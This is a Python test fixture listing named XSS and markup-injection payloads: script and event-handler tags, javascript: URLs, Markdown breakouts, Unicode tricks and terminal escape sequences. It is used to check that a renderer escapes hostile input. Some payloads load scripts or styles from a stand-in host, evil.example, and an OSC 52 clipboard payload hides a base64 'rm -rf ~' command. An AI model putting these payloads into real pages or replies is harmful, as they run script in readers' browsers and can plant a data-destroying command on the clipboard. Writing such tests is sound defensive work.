"""Hostile strings for rendering tests: each tries to become live markup.

Shared by the Python card tests and the browser tests. Every payload is a
plain ``str``; some hold control characters on purpose (ANSI and OSC
sequences, NUL, bidi overrides). Use :data:`PAYLOADS` (name, payload) pairs
so a failing test names the payload.
"""

from __future__ import annotations

__all__ = ["MARKDOWN_PAYLOADS", "PAYLOADS", "XSS_FLAG"]

XSS_FLAG = "__dsh_xss"
"""The ``window`` property a payload sets if it ever runs in a browser."""

_JS = f"window.{XSS_FLAG}=1"
ESC = "\x1b"
BEL = "\x07"

PAYLOADS: tuple[tuple[str, str], ...] = (
    # Script elements.
    ("script", f"<script>{_JS}</script>"),
    ("script-upper", f"<SCRIPT>{_JS}</SCRIPT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-split", f"<scr<script>ipt>{_JS}</scr</script>ipt>"),
    ("script-newline", f"<script\n>{_JS}</script\n>"),
    ("script-slash", f"<script/x>{_JS}</script>"),
    ("script-entity", f"&lt;script&gt;{_JS}&lt;/script&gt;"),
    # Event handlers.
    ("img-onerror", f"<img src=x onerror={_JS}>"),
    ("img-onerror-quoted", f'<img src="x" onerror="{_JS}">'),
    ("svg-onload", f"<svg onload={_JS}>"),
    ("body-onload", f"<body onload={_JS}>"),
    ("details-ontoggle", f"<details open ontoggle={_JS}>"),
    ("input-autofocus", f"<input autofocus onfocus={_JS}>"),
    ("video-source", f"<video><source onerror={_JS}></video>"),
    ("marquee", f"<marquee onstart={_JS}>x</marquee>"),
    ("div-mouseover", f'<div onmouseover="{_JS}" style="position:fixed;inset:0">'),
    ("attr-breakout-double", f'" onmouseover="{_JS}" x="'),
    ("attr-breakout-single", f"' onmouseover='{_JS}' x='"),
    ("attr-breakout-backtick", f"` onmouseover=`{_JS}` x=`"),
    ("attr-no-quotes", f"x onmouseover={_JS} y"),
    ("tag-close-attr", f'"><img src=x onerror={_JS}>'),
    # URLs.
    ("a-javascript", f'<a href="javascript:{_JS}">click</a>'),
    ("a-javascript-entity", '<a href="jav&#x61;script:alert(1)">x</a>'),
    ("a-javascript-tab", '<a href="java\tscript:alert(1)">x</a>'),
    ("iframe-src", f'<iframe src="javascript:{_JS}"></iframe>'),
    ("iframe-srcdoc", f'<iframe srcdoc="<script>{_JS}</script>"></iframe>'),
    ("form-action", f'<form action="javascript:{_JS}"><button>go</button></form>'),
    ("object-data", '<object data="data:text/html;base64,PHNjcmlwdD4="></object>'),
    ("embed-src", '<embed src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:x">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("bare-javascript", f"javascript:{_JS}"),
    ("data-url", "data:text/html,<script>alert(1)</script>"),
    # SVG and MathML.
    ("svg-script", f"<svg><script>{_JS}</script></svg>"),
    ("svg-animate", f'<svg><animate onbegin="{_JS}" attributeName="x"/></svg>'),
    ("svg-a-xlink", f'<svg><a xlink:href="javascript:{_JS}"><text>x</text></a></svg>'),
    ("svg-foreign", f"<svg><foreignObject><img src=x onerror={_JS}></foreignObject>"),
    ("math-href", f'<math><mtext><a href="javascript:{_JS}">x</a></mtext></math>'),
    # CSS.
    ("style-tag", "<style>*{background:url(https://evil.example/t)}</style>"),
    ("style-attr-url", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("css-expression", '<div style="width:expression(alert(1))">x</div>'),
    ("css-escape", '<div style="background:\\75\\72\\6c(javascript:alert(1))">'),
    ("css-import", "<style>@import 'https://evil.example/x.css';</style>"),
    # Breakouts from raw-text and RCDATA elements.
    ("style-breakout", f"</style><script>{_JS}</script>"),
    ("textarea-breakout", f"</textarea><script>{_JS}</script>"),
    ("title-breakout", f"</title><script>{_JS}</script>"),
    ("pre-breakout", f"</pre></div></td></tr></table><script>{_JS}</script>"),
    ("details-breakout", f"</summary></details><img src=x onerror={_JS}>"),
    (
        "noscript-breakout",
        f'<noscript><p title="</noscript><img src=x onerror={_JS}>">',
    ),
    ("xmp-breakout", f"<xmp></xmp><img src=x onerror={_JS}></xmp>"),
    # Comments, CDATA, doctype.
    ("comment", f"<!-- --><script>{_JS}</script><!-- -->"),
    ("comment-bang", f"<!--><img src=x onerror={_JS}>-->"),
    ("cdata", f"<![CDATA[<script>{_JS}</script>]]>"),
    ("doctype", "<!DOCTYPE html><html><body>"),
    ("processing", f"<?xml version='1.0'?><script>{_JS}</script>"),
    # Templates and framework expressions.
    ("template-literal", "${alert(document.cookie)}`${1+1}`"),
    ("angular", "{{constructor.constructor('alert(1)')()}}"),
    ("vue-mustache", "{{ $el.ownerDocument.defaultView.alert(1) }}"),
    ("template-tag", f"<template><script>{_JS}</script></template>"),
    # Unicode tricks.
    ("rtl-override", "safe\u202etxt.exe\u202c<b>"),
    ("bidi-isolate", "\u2066<img src=x onerror=alert(1)>\u2069"),
    ("zero-width", "<\u200bscript>alert(1)<\u200b/script>"),
    ("fullwidth-lt", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("small-lt", "\ufe64script\ufe65alert(1)"),
    ("bom", "\ufeff<script>alert(1)</script>"),
    ("line-separator", "a\u2028<script>\u2029alert(1)</script>"),
    ("surrogates", "\U0001f600<img src=x onerror=alert(1)>\U0001f600"),
    # Control characters.
    ("null-byte", f"<scr\x00ipt>{_JS}</scr\x00ipt>"),
    ("null-in-attr", f"<img src=x o\x00nerror={_JS}>"),
    ("form-feed", f"<img\x0csrc=x\x0conerror={_JS}>"),
    ("c1-csi", f"\x9b31m<b>\x9b0m<script>{_JS}</script>"),
    # ANSI and OSC sequences.
    ("ansi-wrapped-script", f"{ESC}[31m<script>{_JS}</script>{ESC}[0m"),
    ("ansi-inside-tag", f"<{ESC}[1mscript{ESC}[0m>{_JS}</script>"),
    ("ansi-sgr-quote", f'{ESC}[38;2;1;2;3m"><img src=x onerror={_JS}>'),
    ("ansi-bad-params", f"{ESC}[38;5;999m{ESC}[38;2;999;-1;xm<b>x</b>"),
    ("ansi-private", f"{ESC}[?25l{ESC}[>4;2m<i>x</i>"),
    ("osc8-javascript", f"{ESC}]8;;javascript:{_JS}{ESC}\\click me{ESC}]8;;{ESC}\\"),
    ("osc8-bel", f"{ESC}]8;;javascript:alert(1){BEL}link{ESC}]8;;{BEL}"),
    ("osc8-unterminated", f"{ESC}]8;;javascript:alert(1)<b>rest"),
    ("osc-title", f"{ESC}]0;<script>{_JS}</script>{BEL}text"),
    ("osc52-clipboard", f"{ESC}]52;c;cm0gLXJmIH4K{BEL}after"),
    ("dcs-string", f"{ESC}P<script>{_JS}</script>{ESC}\\after"),
    ("cursor-moves", f"{ESC}[2J{ESC}[H{ESC}[10A<b>moved</b>{ESC}[K"),
    ("carriage-return", f"<img src=x onerror={_JS}>\rsafe"),
    ("lone-escape", f"{ESC}<script>{_JS}</script>{ESC}"),
    # Markdown breakouts.
    ("md-fence", "```\n</pre><script>alert(1)</script>\n```"),
    ("md-long-fence", "``````\nx\n``````"),
    ("md-link", "[click](javascript:alert(1))"),
    ("md-image", "![x](https://evil.example/track.png)"),
    ("md-autolink", "<javascript:alert(1)>"),
    ("md-html-block", "<div>\n<script>alert(1)</script>\n</div>"),
    ("md-heading", "\n# injected heading\n"),
    # Entity and encoding tricks.
    ("entity-lt", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("entity-hex", "&#x3C;img src=x onerror=alert(1)&#x3E;"),
    ("entity-named", "&lt;img src=x onerror=alert(1)&gt;"),
    ("double-escape", "&amp;lt;script&amp;gt;"),
    ("percent", "%3Cscript%3Ealert(1)%3C/script%3E"),
    ("json-breakout", f'"}}</script><script>{_JS}</script>'),
    ("long-tag", "<" + "a" * 5000 + " onclick=alert(1)>"),
)

_IMG = f'<img src=x onerror="{_JS}">'  # a tag CommonMark accepts

MARKDOWN_PAYLOADS: tuple[tuple[str, str], ...] = (
    # Fences whose container ends before the fence does: what follows the
    # container is ordinary Markdown, where raw HTML is live.
    ("list-fence", f"- item\n  ```\n{_IMG}\n```"),
    ("list-fence-crlf", f"- item\r\n  ```\r\n{_IMG}\r\n```"),
    ("ordered-list-fence", f'1. x\n   ~~~\n<svg onload="{_JS}">\n~~~'),
    ("nested-list-fence", f"- a\n  - b\n    ```\n{_IMG}\n    ```"),
    ("blockquote-fence", f"> ```\n{_IMG}\n```"),
    ("blockquote-list-fence", f"> - x\n>   ```\n{_IMG}\n```"),
    ("fence-tilde-backtick", f"~~~\n```\n~~~\n{_IMG}\n```"),
    ("fence-unclosed", f"```\n{_IMG}"),
    ("fence-indented-4", f"    ```\n{_IMG}\n    ```"),
    ("indented-code-then-html", f"    code\n{_IMG}"),
    ("span-across-lines", f"x `y\nz` {_IMG} `w`"),
    ("fence-with-backticks", f"```` a`b\n{_IMG}\n````"),
    # Reference links, entities, autolinks.
    ("reference-link", f"[x][1]\n\n[1]: javascript:{_JS}"),
    ("reference-link-entity", f"[x][a]\n\n[a]: &#106;avascript:{_JS}"),
    ("reference-link-angle", f'[x]\n\n[x]: <javascript:{_JS}> "t"'),
    ("reference-collapsed", f"[x][]\n\n[x]: JAVASCRIPT:{_JS}"),
    ("link-entity-scheme", f"[x](&#106;avascript:{_JS})"),
    ("link-hex-entity-scheme", f"[x](&#x6A;avascript:{_JS})"),
    ("link-entity-colon", f"[x](javascript&#58;{_JS})"),
    ("link-named-colon", f"[x](javascript&colon;{_JS})"),
    ("link-percent-scheme", f"[x](%6Aavascript:{_JS})"),
    ("link-spaces", f"[x]( javascript:{_JS} )"),
    ("link-angle", f"[x](<javascript:{_JS}>)"),
    ("link-vbscript", "[x](vbscript:msgbox(1))"),
    ("link-data", "[x](data:text/html;base64,PHNjcmlwdD4=)"),
    ("link-title-breakout", f'[x](http://a.example "\\"onmouseover={_JS}")'),
    ("link-text-html", f"[{_IMG}](http://a.example)"),
    ("image-alt-html", f"![{_IMG}](x)"),
    ("image-javascript", f"![x](javascript:{_JS})"),
    ("autolink-javascript", f"<javascript:{_JS}>"),
    ("autolink-entity", f"<&#106;avascript:{_JS}>"),
    ("autolink-data", f"<data:text/html,<script>{_JS}</script>>"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("entity-tag", "&lt;img src=x onerror=alert(1)&gt;"),
    ("entity-numeric-tag", "&#60;img src=x onerror=alert(1)&#62;"),
    ("backslash-tag", f"\\{_IMG}"),
    # Raw HTML blocks and inline HTML.
    ("html-block-div", f"<div>\n{_IMG}\n</div>"),
    ("html-block-custom", f'<x-y onclick="{_JS}">\n'),
    ("html-block-comment", f"<!--\n-->{_IMG}"),
    ("html-block-pre", f"<pre>\n</pre>{_IMG}"),
    ("html-inline", f"a {_IMG} b"),
    ("html-in-heading", f"# {_IMG}"),
    ("html-in-table", f"| a |\n|---|\n| {_IMG} |"),
    ("html-in-emphasis", f"*{_IMG}*"),
    # Setext headings: the underline turns the line above into a heading.
    ("setext-html", f"{_IMG}\n==="),
    ("setext-then-html", f"Title\n---\n<script>{_JS}</script>"),
    ("setext-in-list", f"- a\n  ===\n{_IMG}"),
    ("setext-lazy", f"> quote\n{_IMG}\n---"),
)
"""Markdown-specific attacks on text shown as Markdown (a model's reply)."""
